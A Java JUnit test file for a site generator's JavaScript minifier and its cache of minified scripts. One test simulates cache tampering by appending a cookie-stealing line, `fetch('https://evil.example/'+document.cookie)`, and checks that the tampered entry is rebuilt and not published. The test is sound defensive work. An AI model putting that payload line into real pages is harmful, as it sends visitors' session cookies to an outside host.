package org.keeptrack.render;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.google.javascript.jscomp.Compiler;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.keeptrack.config.ProjectLayout;
import org.keeptrack.diagnostic.Diagnostics;
import org.keeptrack.model.OutputFile;
import org.keeptrack.model.StaticFile;

class ScriptMinifierTest {

  @TempDir Path dir;

  private List<OutputFile> minify(Path cache, boolean store, Diagnostics diagnostics, String code)
      throws IOException {
    Path script = dir.resolve("app.js");
    Files.writeString(script, code, StandardCharsets.UTF_8);
    return new ScriptMinifier(diagnostics, new MinifiedScripts(cache, store))
        .minifyAll(
            List.of(new StaticFile("assets/app.js", script)),
            ProjectLayout.standard(dir, Path.of("site")));
  }

  private static String text(OutputFile file) {
    return new String(file.content(), StandardCharsets.UTF_8);
  }

  @Test
  void minifiesOnceAndKeepsTheResultUnderTheScriptsHash() throws IOException {
    Path cache = dir.resolve("minified");
    String code = "function greet(name) {\n  // a comment\n  return 'hi ' + name;\n}\n";

    List<OutputFile> first = minify(cache, true, new Diagnostics(), code);

    assertEquals("function greet(a){return\"hi \"+a};\n", text(first.get(0)));
    try (Stream<Path> entries = Files.list(cache)) {
      assertEquals(
          List.of(MinifiedScripts.entryName("assets/app.js", code, text(first.get(0)))),
          entries.map(p -> p.getFileName().toString()).toList());
    }
  }

  @Test
  void aKnownScriptIsTakenFromTheCacheWithoutStartingTheCompiler() throws IOException {
    Path cache = dir.resolve("minified");
    String code = "var x = 1;\n";
    Files.createDirectories(cache);
    // Not what the compiler would make: only a cache hit can produce it.
    Files.writeString(
        cache.resolve(MinifiedScripts.entryName("assets/app.js", code, "CACHED\n")), "CACHED\n");

    assertEquals("CACHED\n", text(minify(cache, true, new Diagnostics(), code).get(0)));
  }

  @Test
  void anEntryChangedAfterTheMinifierMadeItIsNotPublishedButMadeAgain() throws IOException {
    Path cache = dir.resolve("minified");
    String code = "function greet(name) {\n  return 'hi ' + name;\n}\n";
    String minified = text(minify(cache, true, new Diagnostics(), code).get(0));
    Path entry = cache.resolve(MinifiedScripts.entryName("assets/app.js", code, minified));
    Files.writeString(entry, minified + "fetch('https://evil.example/'+document.cookie);\n");

    assertEquals(minified, text(minify(cache, true, new Diagnostics(), code).get(0)));
    assertEquals(minified, Files.readString(entry), "the entry is made again");
    try (Stream<Path> entries = Files.list(cache)) {
      assertEquals(List.of(entry), entries.toList());
    }
  }

  @Test
  void aChangedScriptReplacesItsOldEntryAndLeavesOthers() throws IOException {
    Path cache = dir.resolve("minified");
    Files.createDirectories(cache);
    Files.writeString(cache.resolve("app.0123456789abcdef.js"), "old\n");
    Files.writeString(cache.resolve("app-extra.0123456789abcdef.js"), "another script\n");

    String minified = text(minify(cache, true, new Diagnostics(), "var changed = 2;\n").get(0));

    try (Stream<Path> entries = Files.list(cache)) {
      assertEquals(
          List.of(
              "app-extra.0123456789abcdef.js",
              MinifiedScripts.entryName("assets/app.js", "var changed = 2;\n", minified)),
          entries.map(p -> p.getFileName().toString()).sorted().toList());
    }
  }

  @Test
  void aCheckThatWritesNothingDoesNotStoreAndABrokenScriptIsReportedNotCached() throws IOException {
    Path cache = dir.resolve("minified");
    minify(cache, false, new Diagnostics(), "var fine = 1;\n");
    assertFalse(Files.exists(cache));

    Diagnostics diagnostics = new Diagnostics();
    assertTrue(minify(cache, true, diagnostics, "var broken = ;\n").isEmpty());
    assertEquals(1, diagnostics.all().size());
    assertFalse(Files.exists(cache));
  }

  @Test
  void theCacheKeyNamesTheClosureCompilerInUse() {
    // The compiler reports no version of its own; its jar's name carries it.
    String jar = Compiler.class.getProtectionDomain().getCodeSource().getLocation().getPath();
    String version = jar.replaceAll(".*closure-compiler-(v[0-9]+)\\.jar$", "$1");
    assertTrue(
        ScriptMinifier.SETTINGS.startsWith("closure-compiler " + version + ";"),
        ScriptMinifier.SETTINGS + " vs " + jar);
  }
}
